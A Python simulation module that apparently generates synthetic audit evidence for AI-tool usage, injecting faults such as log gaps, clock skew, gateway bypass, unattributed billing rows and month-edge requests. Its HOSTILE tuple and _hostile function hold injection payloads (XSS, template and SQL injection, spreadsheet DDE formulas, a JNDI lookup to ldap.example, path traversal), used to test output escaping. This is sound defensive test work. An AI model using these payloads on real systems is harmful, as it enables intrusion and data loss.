"""Misbehaviour that is not one move on one day: gaps, clocks, a bill that knows more, the edge, hostile text."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from datetime import date, datetime, timedelta
from random import Random

from evidence.simulate.clock import DAY, MINUTE, SECOND, midnight
from evidence.simulate.days import Diary
from evidence.simulate.gateway import Connection
from evidence.simulate.register import Move
from evidence.simulate.truth import UsageFact
from evidence.simulate.tunnels import low_credentials, simple, tunnel
from evidence.simulate.usage import GATED_SKU, UserDay, bill_rows
from evidence.simulate.world import CHAT, Expect, Today, World

HOSTILE = (
    "<script>alert('report')</script><img src=x onerror=alert(1)>", "</style><style>body{display:none}</style>",
    "{{7*7}}{% for x in range(9) %}{{x}}{% endfor %}", "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred", "harmless\u202egnp.exe\u2066\u2069", "nul\x00inside", "w" * 4000,
    "' OR 1=1; DROP TABLE chain; --", "${jndi:ldap://ldap.example/a}", "../../etc/passwd",
    "\ufeff\u200bzero\u200dwidth",
)


def windows(first: datetime, last: datetime, gaps: Iterable[date]) -> list[tuple[datetime, datetime]]:
    """Return the covered intervals between two instants, without the days that are missing."""
    edges = [first]
    for day in sorted(gaps):
        edges += [midnight(day), midnight(day) + DAY]
    edges.append(last)
    return list(zip(edges[::2], edges[1::2], strict=True))


def prepare(world: World) -> None:
    """Decide, before the first day, what the whole month must look like."""
    on = set(world.switches)
    if "log_gap" in on:
        idp, gateway = world.days[-7], world.days[-4]
        world.idp_gap.add(idp)
        world.gateway_gap.add(gateway)
        world.coverage.update({("entra-sign-ins", "gap"), ("gateway", "gap")})
        world.find("log_gap", ["entra-sign-ins"], None, idp.isoformat(), source="entra-sign-ins", day=idp.isoformat())
        world.find("log_gap", ["gateway"], None, gateway.isoformat(), source="gateway", day=gateway.isoformat())
    if "clock_skew" in on:
        world.skew = timedelta(seconds=90)
        world.find("clock_skew", ["entra-sign-ins", "entra-audit"], None, "clock ahead", seconds="90")
    if "bypass" in on:
        person = world.cast["bypasser"]
        for day in (world.days[3], world.days[7]):
            world.usage_plan[(person.oid, day)] = "bypass"
            world.find("bypass", [f"github-billing/{day.isoformat()}/{person.login}"], person, day.isoformat(),
                       verdict="UNGATED_USER_DAY", grade="B")
    if "usage_source_gap" in on:
        person, day = world.cast["quiet"], world.days[5]
        world.usage_plan[(person.oid, day)] = "zero"
        world.find("usage_source_gap", [f"github-usage/{day.isoformat()}/{person.login}"], person, day.isoformat(),
                   verdict="USAGE_SOURCE_GAP")


def _passing(world: World, today: Today) -> None:
    """The quiet person uses the gateway on the day for which the vendor reports nothing."""
    person = world.cast["quiet"]
    moment = today.clock(10)
    tunnel(world, today, world.caller(person, moment), CHAT, [(moment, simple(today.rng))], expect=Expect(),
           parent=low_credentials(world, today, person, CHAT, moment))


def _before_leaving(world: World, today: Today) -> None:
    """The leaver still works here: what he does now is in order."""
    person = world.cast["leaver"]
    moment = today.clock(9)
    tunnel(world, today, world.caller(person, moment), CHAT, [(moment, simple(today.rng))], expect=Expect(),
           parent=low_credentials(world, today, person, CHAT, moment))


def plan(world: World) -> dict[date, list[Move]]:
    """Return the moves that belong to these switches, by day."""
    moves: dict[date, list[Move]] = {}
    if "usage_source_gap" in world.switches:
        moves.setdefault(world.days[5], []).append(_passing)
    if "leaver_active" in world.switches:
        moves.setdefault(world.days[1], []).append(_before_leaving)
    if "hostile_text" in world.switches:
        moves.setdefault(world.days[4], []).append(_hostile)
    return moves


def _hostile(world: World, today: Today) -> None:
    """Every field that a stranger can fill holds something that wants to run."""
    connection = Connection('evil"><img src=x onerror=alert(1)>', "httpproxy", "httpproxy", "chat", "low")
    world.connections.append(connection)
    ids = []
    person = world.pick(today)
    for number, text in enumerate(HOSTILE):
        moment = today.clock(8 + number // 2, 30 * (number % 2))
        caller = world.caller(person, moment)
        if number < 7:
            caller = replace(caller, owner=replace(caller.owner, name=text))
        one = replace(simple(today.rng, connection), prompt=f"Explain this input: {text}", answer=f"It says: {text}")
        ids.append(tunnel(world, today, caller, connection, [(moment, one)], expect=Expect()))
        world.hostile.append(text)
    world.hostile.append(connection.name)
    world.find("hostile_text", ids, None, rendered="escaped")


def finish(world: World, diary: Diary) -> None:
    """Write what lies at the month's edge, and the lines of the bill that name nobody."""
    if "unattributed_usage" in world.switches:
        day = world.days[6]
        for login in ("", "unknown-seat-04"):
            row = UserDay(login, 1, 3, 0)
            world.bill += bill_rows(row, day)
            world.usage.append(UsageFact("github-billing", day.isoformat(), login, GATED_SKU, "Claude Sonnet 4.5", None,
                                         "must_be_gated", ("UNRESOLVED_IDENTITY",)))
            world.find("unattributed_usage", [f"github-billing/{day.isoformat()}/{login}"], None,
                       verdict="UNRESOLVED_IDENTITY")
    if "month_boundary" in world.switches:
        _boundary(world, diary)


def _boundary(world: World, diary: Diary) -> None:
    """Half an hour on either side of both edges of the month: two requests are of the month, two are not."""
    person = next(one for one in world.base if one.login)
    sent: dict[date, int] = {}
    unsure = Random(f"{world.seed}:edge").choice((world.month.start, world.month.end))  # noqa: S311 - a simulation
    for edge in (world.month.start, world.month.end):
        moments = [edge - 30 * MINUTE, edge + 30 * MINUTE]
        for moment in sorted([*moments, edge + SECOND / 3] if edge == unsure else moments):
            today = Today(moment.date(), Random(f"{world.seed}:{moment.isoformat()}"))  # noqa: S311 - a simulation
            caller = world.caller(person, moment)
            ident = tunnel(world, today, caller, CHAT, [(moment, simple(today.rng))], expect=Expect())
            sent[moment.date()] = sent.get(moment.date(), 0) + 1
            inside = world.month.start <= moment < world.month.end
            place = "boundary" if world.at_edge(moment) else "inside" if inside else "outside"
            world.find("month_boundary", [ident], person, in_period=place)
            diary.close(today, moment.strftime("%Y-%m-%dT%H%M"))
    for day, chats in sorted(sent.items()):
        diary.edge_usage(person, day, chats)
